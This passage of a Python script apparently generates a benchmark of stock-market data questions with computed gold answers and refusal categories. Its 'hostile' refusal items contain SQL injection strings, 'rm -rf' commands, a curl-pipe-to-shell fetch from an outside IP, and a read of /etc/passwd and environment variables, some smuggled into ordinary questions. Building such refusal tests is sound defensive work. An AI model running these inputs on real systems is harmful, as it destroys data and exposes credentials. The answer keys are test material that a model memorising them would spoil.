A("biggest-move-day", "INDA's largest daily decline in its 2023 data", g_bigmove("INDA", *year(2023), "down"))

# -- cross-sectional ranking --------------------------------------------------------------------
A("cross-sectional-ranking", "For a slide I'm making: which 3 stocks traded the most shares on 2015-08-24?",
  g_rank_day("2015-08-24", "volume", 3, True))
A("cross-sectional-ranking", "top 5 names by daily return on 11/9/2016", g_rank_day("2016-11-09", "return", 5, True))
A("cross-sectional-ranking", "Which stock had the widest high-low range on 2017-06-09?",
  g_rank_day("2017-06-09", "range", 1, True, singular=True))
A("cross-sectional-ranking", "Rank the three ETFs by volume on 2025-04-07, highest first.",
  g_rank_day("2025-04-07", "volume", 3, True))
A("cross-sectional-ranking", "Which were the 3 highest-priced stocks by close on Jan 4, 2010?",
  g_rank_day("2010-01-04", "close", 3, True))
A("cross-sectional-ranking", "Name the 4 worst performers on 2008-10-15 (daily return).",
  g_rank_day("2008-10-15", "return", 4, False))
A("cross-sectional-ranking", "lowest closing price among all the tickers on 2013-03-01 - which one was it?",
  g_rank_day("2013-03-01", "close", 1, False, singular=True))
A("cross-sectional-ranking", "Which ETF had the best daily return on April 9th 2025?",
  g_rank_day("2025-04-09", "return", 1, True, singular=True))
A("cross-sectional-ranking", "On 2011-08-08, which three stocks dropped the most?",
  g_rank_day("2011-08-08", "return", 3, False))

# -- gainers / losers ---------------------------------------------------------------------------
A("gainers-losers", "Top 3 gainers from the 2016-03-01 close to the 2016-06-30 close",
  g_rank_change("2016-03-01", "2016-06-30", 3, True))
A("gainers-losers", "Which 2 stocks lost the most between the 2008-09-02 close and the 2008-12-31 close?",
  g_rank_change("2008-09-02", "2008-12-31", 2, False))
A("gainers-losers", "Best performing stock from close 2013-01-02 to close 2013-12-31?",
  g_rank_change("2013-01-02", "2013-12-31", 1, True, singular=True))
A("gainers-losers", "Among the ETFs, rank them by return from the 2025-03-03 close to the 2025-06-02 close.",
  g_rank_change("2025-03-03", "2025-06-02", 3, True, pool=ETFS, expect_universe=ETFS))
A("gainers-losers", "biggest loser, 12/31/2015 close to the Feb 11th 2016 close",
  g_rank_change("2015-12-31", "2016-02-11", 1, False, singular=True))
A("gainers-losers", "Rank all the stocks by % return from the Jan 3, 2017 close to the Nov 10, 2017 close.",
  g_rank_change("2017-01-03", "2017-11-10", 13, True, expect_universe=DAILY_TICKERS))
A("gainers-losers", "Which ETF fell most from the 2024-07-01 close to the 2024-12-31 close?",
  g_rank_change("2024-07-01", "2024-12-31", 1, False, pool=ETFS, singular=True, expect_universe=["FXY", "DBB"]))
A("gainers-losers", "Worst 3 performers from the March 10th 2000 close to the October 9th 2002 close",
  g_rank_change("2000-03-10", "2002-10-09", 3, False))

# -- named comparison ---------------------------------------------------------------------------
A("named-comparison", "Did KO or IBM have the bigger return from the 2014-01-02 close to the 2014-12-31 close?",
  g_compare([("KO", change("KO", "2014-01-02", "2014-12-31")), ("IBM", change("IBM", "2014-01-02", "2014-12-31"))],
            "which"))
A("named-comparison", "Which traded more shares on average in March 2013, Intel or Microsoft?",
  g_compare([(s, period_value(s, *month(2013, 3), "mean_volume")) for s in ("INTC", "MSFT")], "which"))
A("named-comparison", "FXY vs DBB: average close in Q1 2025",
  g_compare([(s, period_value(s, *quarter(2025, 1), "mean_close")) for s in ("FXY", "DBB")], "vs"))
A("named-comparison", "Who had the wider high-low range on 2017-08-10, NVDA or AMD?",
  g_compare([(s, rng(bar(s, "2017-08-10"))) for s in ("NVDA", "AMD")], "which"))
A("named-comparison", "INDA or DBB - which gained more from the 2025-02-10 close to the 2025-06-23 close?",
  g_compare([(s, change(s, "2025-02-10", "2025-06-23")) for s in ("INDA", "DBB")], "which"))
A("named-comparison", "Tesla vs Netflix total volume, June 2014",
  g_compare([(s, period_value(s, *month(2014, 6), "sum_volume")) for s in ("TSLA", "NFLX")], "vs"))
A("named-comparison", "Which was up more on 2025-04-09, FXY or DBB?",
  g_compare([(s, daily_return(s, "2025-04-09")) for s in ("FXY", "DBB")], "which"))
A("named-comparison", "Which had the higher close on 2007-06-29: Apple or Amazon?",
  g_compare([(s, bar(s, "2007-06-29")[C]) for s in ("AAPL", "AMZN")], "which"))

# -- grouped by period --------------------------------------------------------------------------
A("grouped-by-period", "month-end closes for AMZN in 2012, one per month",
  g_grouped("AMZN", [month(2012, m) for m in range(1, 13)], "last_close"))
A("grouped-by-period", "FXY average close by month, Jan-Jun 2025",
  g_grouped("FXY", [month(2025, m) for m in range(1, 7)], "mean_close"))
A("grouped-by-period", "total volume per quarter for JPM in 2010", g_grouped("JPM", [quarter(2010, q) for q in range(1, 5)],
                                                                           "sum_volume"))
A("grouped-by-period", "Yearly high for NFLX, 2012 through 2016?", g_grouped("NFLX", [year(y) for y in range(2012, 2017)],
                                                                          "max_high"))
A("grouped-by-period", "DBB weekly closes for the weeks of June 2, 9, 16 and 23, 2025",
  g_grouped("DBB", [week_of(f"2025-06-{d:02d}") for d in (2, 9, 16, 23)], "last_close"))
A("grouped-by-period", "Break down MSFT's average daily volume by year for 2013-2016.",
  g_grouped("MSFT", [year(y) for y in range(2013, 2017)], "mean_volume"))
A("grouped-by-period", "INDA month-end closing prices, February through May 2025",
  g_grouped("INDA", [month(2025, m) for m in range(2, 6)], "last_close"))
A("grouped-by-period", "For each quarter of 2016, what was KO's lowest low?",
  g_grouped("KO", [quarter(2016, q) for q in range(1, 5)], "min_low"))

# -- period over period -------------------------------------------------------------------------
A("period-over-period", "How did NFLX's average daily volume in Q3 2015 compare with Q2 2015?",
  g_pop("NFLX", quarter(2015, 3), quarter(2015, 2), "mean_volume"))
A("period-over-period", "How did DBB's average close last month compare with May?",
  g_pop("DBB", month(2025, 6), month(2025, 5), "mean_close"))
A("period-over-period", "Average daily volume of FXY in H2 2024 versus H1 2024 - what's the change?",
  g_pop("FXY", half(2024, 2), half(2024, 1), "mean_volume"))
A("period-over-period", "IBM mean close, 2013 vs 2012", g_pop("IBM", year(2013), year(2012), "mean_close"))
A("period-over-period", "Compare Apple's average volume in September 2014 with August 2014.",
  g_pop("AAPL", month(2014, 9), month(2014, 8), "mean_volume"))
A("period-over-period", "INDA avg daily volume, April 2025 relative to March 2025",
  g_pop("INDA", month(2025, 4), month(2025, 3), "mean_volume"))
A("period-over-period", "How much higher or lower was TSLA's average close in Q2 2017 than in Q1 2017?",
  g_pop("TSLA", quarter(2017, 2), quarter(2017, 1), "mean_close"))
A("period-over-period", "GOOGL: average daily trading volume in 2015 vs 2014, percent change?",
  g_pop("GOOGL", year(2015), year(2014), "mean_volume"))

# -- moving averages ----------------------------------------------------------------------------
A("moving-average", "50-day moving average of MSFT on 2016-06-30", g_ma("MSFT", "2016-06-30", 50))
A("moving-average", "FXY 20-day SMA today", g_ma("FXY", TODAY, 20))
A("moving-average", "What was the 200-day MA for JPM on March 9th 2009?", g_ma("JPM", "2009-03-09", 200))
A("moving-average", "DBB 10 day moving average as of 2024-10-01", g_ma("DBB", "2024-10-01", 10))
A("moving-average", "Coke's 100-day moving average on New Year's Eve 2012", g_ma("KO", "2012-12-31", 100))
A("moving-average", "When did AAPL's 50-day cross above its 200-day in 2016?",
  g_cross("AAPL", 50, 200, "above", *year(2016), "only"))
A("moving-average", "First death cross for NFLX after 2015-12-31?",
  g_cross("NFLX", 50, 200, "below", "2016-01-01", "2017-11-10", "first"))
A("moving-average", "On what date did FXY's close first cross above its 50-day moving average in 2025?",
  g_cross("FXY", 1, 50, "above", "2025-01-01", TODAY, "first"))
A("moving-average", "When did DBB's 20-day MA last cross below its 50-day before 2025-06-01?",
  g_cross("DBB", 20, 50, "below", "2023-07-10", "2025-05-31", "last"))
A("moving-average", "Identify the golden cross for INTC during 2013.", g_cross("INTC", 50, 200, "above", *year(2013), "only"))

# -- threshold count ----------------------------------------------------------------------------
A("threshold-count", "how many closes above $305 did Tesla log in 2017?", g_count_days("TSLA", *year(2017), "close", ">", 305))
A("threshold-count", "In 2016, how many sessions did AMD fall more than 5%?",
  g_count_days("AMD", *year(2016), "return", "<", -0.05))
A("threshold-count", "number of days FXY moved more than 1.2% either way in 2024",
  g_count_days("FXY", *year(2024), "absreturn", ">", 0.012))
A("threshold-count", "count of days in 2008 where JPM's volume exceeded 100 million shares",
  g_count_days("JPM", *year(2008), "volume", ">", 100e6))
A("threshold-count", "How many up days did KO have in Q1 2014?", g_count_days("KO", *quarter(2014, 1), "return", ">", 0))
A("threshold-count", "How often did DBB close below $18.80 last month?", g_count_days("DBB", *month(2025, 6), "close", "<", 18.8))
A("threshold-count", "NVDA: how many trading days in 2017 had a high-low range greater than $5?",
  g_count_days("NVDA", *year(2017), "range", ">", 5))
A("threshold-count", "how many times did IBM gap down more than 2% from 2010 through 2014?",
  g_count_days("IBM", "2010-01-01", "2014-12-31", "gap", "<", -0.02))

# -- cross-stock count --------------------------------------------------------------------------
A("cross-stock-count", "How many of the stocks fell more than 5% on 2016-06-24?",
  g_count_stocks("2016-06-24", lambda s: daily_return(s, "2016-06-24"), "<", -0.05, expect_n=13))
A("cross-stock-count", "On 2009-03-10, how many tickers gained more than 5%?",
  g_count_stocks("2009-03-10", lambda s: daily_return(s, "2009-03-10"), ">", 0.05, expect_n=11))
A("cross-stock-count", "How many of the 13 daily stocks closed above their 200-day moving average on 2014-06-02?",
  g_count_stocks("2014-06-02", lambda s: bar(s, "2014-06-02")[C] - moving_average(s, "2014-06-02", 200), ">", 0,
                 expect_n=13))
A("cross-stock-count", "How many of the ETFs finished down on 2025-04-10?",
  g_count_stocks("2025-04-10", lambda s: daily_return(s, "2025-04-10"), "<", 0, expect_n=3))
A("cross-stock-count", "how many stocks traded more than 30M shares on 2017-01-03?",
  g_count_stocks("2017-01-03", lambda s: bar(s, "2017-01-03")[V], ">", 30e6, expect_n=13))
A("cross-stock-count", "On 2015-08-24 how many names gapped down by more than 7% at the open?",
  g_count_stocks("2015-08-24", lambda s: daily_gap(s, "2015-08-24"), "<", -0.07, expect_n=13))


def new_52w_high(s, d):
    """1 if the day's high is the 52-week high (max high over 365 days to d); every reading must agree."""
    res = set()
    for days in (365, 364):
        a = iso(D(d) - dt.timedelta(days=days))
        prior = [r[H] for r in sessions(s, a, d) if r[0] < d]
        h = bar(s, d)[H]
        res.add(h >= max(prior))
        res.add(h > max(prior))
    check(len(res) == 1, f"{s} new-high reading ambiguous on {d}")
    return 1 if res.pop() else 0


A("cross-stock-count", "Count the stocks that set a new 52-week high on 2017-06-02.",
  g_count_stocks("2017-06-02", lambda s: new_52w_high(s, "2017-06-02"), ">", 0.5, expect_n=13))
A("cross-stock-count", "On how many of the three ETFs was 2023-08-09 an up day?",
  g_count_stocks("2023-08-09", lambda s: daily_return(s, "2023-08-09"), ">", 0, expect_n=3))

# -- volatility ---------------------------------------------------------------------------------
A("volatility", "daily volatility of AAPL in 2013 (std dev of daily returns)", g_vol("AAPL", *year(2013)))
A("volatility", "FXY volatility over H1 2025", g_vol("FXY", *half(2025, 1)))
A("volatility", "Std dev of TSLA daily returns, Q3 2016", g_vol("TSLA", *quarter(2016, 3)))
A("volatility", "DBB return volatility last quarter", g_vol("DBB", *quarter(2025, 2)))
A("volatility", "How volatile was JPM in Q4 2008? I mean the standard deviation of its daily returns.",
  g_vol("JPM", *quarter(2008, 4)))
A("volatility", "Please provide the sample standard deviation of KO's daily returns for the period 2012-01-01 to 2012-06-30.",
  g_vol("KO", "2012-01-01", "2012-06-30"))
A("volatility", "INDA volatility, March through May 2025", g_vol("INDA", "2025-03-01", "2025-05-31"))
A("volatility", "realized vol (not annualized) of NVDA in 2016", g_vol("NVDA", *year(2016)))

# -- correlation --------------------------------------------------------------------------------
A("correlation", "correlation between AAPL and MSFT daily returns in Q3 2015", g_corr("AAPL", "MSFT", *quarter(2015, 3)))
A("correlation", "How correlated were FXY and DBB in the second quarter of 2024?", g_corr("FXY", "DBB", *quarter(2024, 2)))
A("correlation", "KO vs JPM return correlation, 2015", g_corr("KO", "JPM", *year(2015)))
A("correlation", "INDA and DBB correlation over Q3 2023", g_corr("INDA", "DBB", *quarter(2023, 3)))
A("correlation", "Correlation of AMZN and NFLX daily returns, calendar 2010", g_corr("AMZN", "NFLX", *year(2010)))
A("correlation", "what's the correlation between INTC and AMD over the second half of 2011",
  g_corr("INTC", "AMD", *half(2011, 2)))
A("correlation", "FXY/INDA daily-return correlation in 2023",
  g_corr("FXY", "INDA", *year(2023)))
A("correlation", "GOOGL & FB correlation for 2014", g_corr("GOOGL", "FB", *year(2014)))

# -- streaks ------------------------------------------------------------------------------------
A("streak", "longest run of consecutive up days for KO in 2011", g_streak("KO", *year(2011), True))
A("streak", "FXY longest losing streek in 2024", g_streak("FXY", *year(2024), False))
A("streak", "What was the longest winning streak for AMZN in 2015?", g_streak("AMZN", *year(2015), True))
A("streak", "Longest stretch of consecutive down closes for IBM during 2012", g_streak("IBM", *year(2012), False))
A("streak", "DBB: longest streak of up days this year", g_streak("DBB", "2025-01-01", TODAY, True))
A("streak", "NVDA longest consecutive-gain streak, first half of 2017", g_streak("NVDA", *half(2017, 1), True))
A("streak", "and INDA - longest run of daily gains in 2023?", g_streak("INDA", *year(2023), True))
A("streak", "JPM longest losing streak in 2008", g_streak("JPM", *year(2008), False))

# -- VWAP and minute bars -----------------------------------------------------------------------
A("vwap-minute", "VWAP for FXY on 2024-05-02", g_day_vwap("FXY", "2024-05-02"))
A("vwap-minute", "what was INDA's vwap on 2025-04-07", g_day_vwap("INDA", "2025-04-07"))
A("vwap-minute", "DBB volume-weighted average price today", g_day_vwap("DBB", TODAY))
A("vwap-minute", "FXY VWAP 12/13/2023", g_day_vwap("FXY", "2023-12-13"))
A("vwap-minute", "INDA VWAP from 9:30 through 10:00 on 2025-05-12", g_window_vwap("INDA", "2025-05-12", "09:30", "10:00"))
A("vwap-minute", "FXY vwap between 14:00 and 15:00 New York time on 2024-08-05",
  g_window_vwap("FXY", "2024-08-05", "14:00", "15:00", check_exclusive_end=True))
A("vwap-minute", "What was the VWAP of INDA in the first 30 minutes of the regular session on 2023-08-01?",
  g_window_vwap("INDA", "2023-08-01", "09:30", "09:59"))
A("vwap-minute", "Show the 1-minute bars for INDA from 10:00 through 10:04 on 2025-06-02 (open, high, low, close, volume)",
  g_minute_rows("INDA", "2025-06-02", "10:00", "10:04", ["open", "high", "low", "close", "volume"]))
A("vwap-minute", "List FXY's minute closes from 15:55 through 16:00 on 2024-12-31",
  g_minute_rows("FXY", "2024-12-31", "15:55", "16:00", ["close"]))
A("vwap-minute", "DBB minute bars between 11:00 and 11:30 on 2025-04-09 - close and volume",
  g_minute_rows("DBB", "2025-04-09", "11:00", "11:30", ["close", "volume"], check_edges=True))

# -- period candle ------------------------------------------------------------------------------
A("period-candle", "NVDA monthly candle for Feb 2016", g_candle("NVDA", *month(2016, 2)))
A("period-candle", "FXY OHLCV for the week of 2024-04-29", g_candle("FXY", *week_of("2024-04-29"), expect=5))
A("period-candle", "Give me IBM's Q3 2014 open, high, low, close and volume.", g_candle("IBM", *quarter(2014, 3)))
A("period-candle", "DBB candle for last month", g_candle("DBB", *month(2025, 6)))
A("period-candle", "AAPL 2012 annual bar: open high low close volume", g_candle("AAPL", *year(2012)))
A("period-candle", "weekly candle for JPM, week of Jan 19 2009", g_candle("JPM", *week_of("2009-01-19"), expect=4))
A("period-candle", "Netflix OHLCV for the first half of 2013", g_candle("NFLX", *half(2013, 1)))
A("period-candle", "MSFT's candle for the week of 11/6/2017", g_candle("MSFT", *week_of("2017-11-06"), expect=5))

# -- distance from high -------------------------------------------------------------------------
A("distance-from-high", "How far bellow its all-time high was AAPL on 2016-05-12?", g_dist_high("AAPL", "2016-05-12"))
A("distance-from-high", "DBB distance from all-time high today", g_dist_high("DBB", TODAY))
A("distance-from-high", "On 2009-03-09, how far was JPM from its record close?", g_dist_high("JPM", "2009-03-09"))
A("distance-from-high", "How far off its peak close was FXY on 2024-07-10?", g_dist_high("FXY", "2024-07-10"))
A("distance-from-high", "Percent below all-time high for NFLX on Dec 31, 2012", g_dist_high("NFLX", "2012-12-31"))
A("distance-from-high", "INTC drawdown from its all-time high as of 2002-10-08", g_dist_high("INTC", "2002-10-08"))
A("distance-from-high", "How far was INDA from its highest close on 2025-04-07?", g_dist_high("INDA", "2025-04-07"))
A("distance-from-high", "how far below the all time high was MSFT at the end of 2008 (12/31/2008)",
  g_dist_high("MSFT", "2008-12-31"))

# -- coverage -----------------------------------------------------------------------------------
A("coverage", "Which tickers do you have data for?", G([[s] for s in ALL], "set", True))
A("coverage", "When does the TSLA data start?", G([[DAILY["TSLA"][0][0]]], "first"))
A("coverage", "What date range does the Coca-Cola file cover?", G([[DAILY["KO"][0][0], DAILY["KO"][-1][0]]], "first"))
A("coverage", "What's the last date with INDA data?", G([[DAILY["INDA"][-1][0]]], "first"))


def inda_resume():
    ds = [r[0] for r in DAILY["INDA"]]
    gaps = [(ds[i - 1], ds[i]) for i in range(1, len(ds)) if (D(ds[i]) - D(ds[i - 1])).days > 7]
    check(len(gaps) == 1 and gaps[0][0][:4] == "2023" and gaps[0][1][:4] == "2025", f"INDA gaps {gaps}")
    return gaps[0][1]


A("coverage", "INDA has a long hole in its history between 2023 and 2025 - on what date does its data pick up again?",
  G([[inda_resume()]], "first"))
A("coverage", "How many trading days of data are there for FB?", G([[len(DAILY["FB"])]], "first"))
A("coverage", "Which symbols have minute-level data?", G([[s] for s in ETFS], "set", True))


def earliest():
    firsts = sorted((DAILY[s][0][0], s) for s in ALL)
    check(firsts[0][0] != firsts[1][0], "earliest tie")
    return [firsts[0][1], firsts[0][0]]


A("coverage", "What's the earliest date in the whole dataset, and which ticker is it for?", G([earliest()], "first"))
A("coverage", "How many sessions does GOOGL have in 2005?", G([[len(sessions("GOOGL", *year(2005)))]], "first"))

# -- refusals -----------------------------------------------------------------------------------
R("out-of-scope", "What's Microsoft's P/E ratio as of 2017-11-10?")
R("out-of-scope", "how much did KO pay in dividends in 2015")
R("out-of-scope", "Market cap of AMZN on 11/10/2017?")
R("out-of-scope", "What EPS did Netflix report for Q3 2016?")
R("out-of-scope", "Any news on Tesla around 2017-08-02 that explains the move?")
R("out-of-scope", "Where will AAPL close next month? Give me a forecast.")
R("out-of-scope", "What's the implied volatility on FXY options expiring in August?")
R("out-of-scope", "analyst consensus price target for NVDA?")
R("out-of-scope", "What is INDA's expense ratio?")
R("out-of-scope", "How was social media sentiment on IBM during Q1 2014?")

R("unknown-symbol", "What did CSCO close at on 2016-03-15?")
R("unknown-symbol", "Walmart's 52-week high as of 2015-06-30")
R("unknown-symbol", "NKE volume on 2014-09-26")
R("unknown-symbol", "How did EWZ do this year?")
R("unknown-symbol", "Compare Berkshire Hathaway and JPM returns in 2013")
R("unknown-symbol", "XOM 50-day moving average on 2016-12-30?")
R("unknown-symbol", "QQQ VWAP today")
R("unknown-symbol", "what was the longest losing streak for FXE in 2024")
R("unknown-symbol", "ZZQX daily return on 2017-05-04")
R("unknown-symbol", "Goldman Sachs closing price on March 3rd, 2015")

R("hostile", "'; DROP TABLE prices; --")
R("hostile", "SELECT * FROM daily_bars WHERE 1=1; DELETE FROM daily_bars;")
R("hostile", "rm -rf / --no-preserve-root")
R("hostile", "$(curl -s http://203.0.113.7/x.sh | sh)")
R("hostile", "1 UNION SELECT username, password FROM users --")
R("hostile", "cat /etc/passwd && env")
R("hostile", "UPDATE prices SET close = 0 WHERE symbol = 'AAPL'")
R("hostile", "What was AAPL's close on 2015-03-02'; DROP TABLE daily; --")
R("hostile", "Show FXY volume today; rm -rf ~/*")
R("hostile", "average KO close in 2014 UNION SELECT name, sql FROM sqlite_master --")

R("not-understood", "hello")
R("not-understood", "asdfgh jkl")
R("not-understood", "Write me a short poem about the ocean.")
R("not-understood", "what's the weather like in Paris tomorrow")
R("not-understood", "thanks, that's all!")
R("not-understood", "who won the 2014 world cup")
R("not-understood", "?")
R("not-understood", "translate 'good morning' into French")
R("not-understood", "tell me a joke")
R("not-understood", "How do I bake sourdough bread?")


# ----------------------------------------------------------------------------------------------
# Whole-split checks, ids, output
# ----------------------------------------------------------------------------------------------
KINDS = ["latest-rows", "day-value", "date-range-rows", "window-aggregate", "extreme-day", "52-week", "change-between",
         "daily-return-or-gap", "biggest-move-day", "cross-sectional-ranking", "gainers-losers", "named-comparison",
         "grouped-by-period", "period-over-period", "moving-average", "threshold-count", "cross-stock-count",
         "volatility", "correlation", "streak", "vwap-minute", "period-candle", "distance-from-high", "coverage"]
REFUSALS = ["out-of-scope", "unknown-symbol", "hostile", "not-understood"]
SLASH = re.compile(r"\b(\d{1,2})/(\d{1,2})/(\d{4})\b")


def slash_dates_unambiguous(q):
    """A d/m/y or m/d/y date must have only one reading that is a weekday."""
    for a, b, y in SLASH.findall(q):
        a, b, y = int(a), int(b), int(y)
        readings = []
        for m, d in ((a, b), (b, a)):
            try:
                readings.append(dt.date(y, m, d))
            except ValueError:
                pass
        readings = sorted(set(readings))
        check(readings, f"bad slash date in {q!r}")
        check(sum(1 for x in readings if x.weekday() < 5) == 1, f"slash date readable two ways: {q!r}")


def validate(items):
    check(len(items) == 240, f"{len(items)} questions")
    ids = [q["id"] for q in items]
    check(ids == [f"y{i:03d}" for i in range(1, 241)], "ids")
    check(len(set(q["question"].strip().lower() for q in items)) == 240, "duplicate question")
    counts = {}
    for q in items:
        counts[q["kind"]] = counts.get(q["kind"], 0) + 1
        check(set(q) in ({"id", "kind", "question", "answerable", "gold"}, {"id", "kind", "question", "answerable",
                                                                               "refusal"}), "keys")
        if q["answerable"]:
            check(q["kind"] in KINDS, "kind " + q["kind"])
            g = q["gold"]
            check(g["match"] in ("ordered", "set", "first"), "match")
            check(set(g) <= {"rows", "match", "exact_rows"}, "gold keys")
            check(g.get("exact_rows", True) is True, "exact_rows")
            check(len(g["rows"]) >= 1 and all(isinstance(r, list) and r for r in g["rows"]), "rows")
            for r in g["rows"]:
                for c in r:
                    check(isinstance(c, (int, float, str)) and not isinstance(c, bool), "cell type")
                    if isinstance(c, str):
                        check(c in DAILY or re.fullmatch(r"\d{4}-\d{2}-\d{2}( \d{2}:\d{2})?", c), "cell " + c)
            slash_dates_unambiguous(q["question"])
        else:
            check(q["kind"] in REFUSALS and q["refusal"] == q["kind"], "refusal kind")
    for k in KINDS:
        check(8 <= counts.get(k, 0) <= 10, f"kind {k}: {counts.get(k, 0)}")
    check(sum(counts[k] for k in KINDS) == 200, "200 answerable")
    for k in REFUSALS:
        check(counts.get(k, 0) == 10, f"refusal {k}")
    wrapped = [q for q in items if q["kind"] == "hostile" and re.search(r"[A-Za-z]{3,} .*\b(19|20)\d\d|today", q["question"])]
    check(len(wrapped) == 3, f"hostile wrapped: {len(wrapped)}")
    return counts


def main():
    check(not FAILURES, "gold checks failed:\n  " + "\n  ".join(FAILURES))
    # A stable order that interleaves kinds: by a hash of the question text.
    order = sorted(QUESTIONS, key=lambda q: hashlib.sha256(q["question"].encode("utf-8")).hexdigest())
    items = []
    for i, q in enumerate(order, 1):
        item = {"id": f"y{i:03d}", "kind": q["kind"], "question": q["question"], "answerable": q["answerable"]}
        if q["answerable"]:
            item["gold"] = q["gold"]
        else:
            item["refusal"] = q["refusal"]
        items.append(item)
    validate(items)
    text = "".join(json.dumps(it, ensure_ascii=False) + "\n" for it in items)
    tmp = OUT + ".tmp"
    with open(tmp, "w", encoding="utf-8", newline="\n") as f:
        f.write(text)
    os.replace(tmp, OUT)
    # re-read and validate what was written
    with open(OUT, encoding="utf-8") as f:
        back = [json.loads(x) for x in f.read().splitlines()]
    check(back == items, "round trip")
    counts = validate(back)
    etf = sum(1 for q in back if q["answerable"] and any(s in q["question"] for s in ("INDA", "FXY", "DBB")))
    print(f"wrote {len(back)} questions to {OUT}")
    for k in KINDS + REFUSALS:
        print(f"  {k:25s} {counts[k]}")
    print(f"  answerable mentioning an ETF: {etf}")


if __name__ == "__main__":
    try:
        main()
    except CheckFailed as e:
        print("CHECK FAILED: " + str(e), file=sys.stderr)
        sys.exit(1)
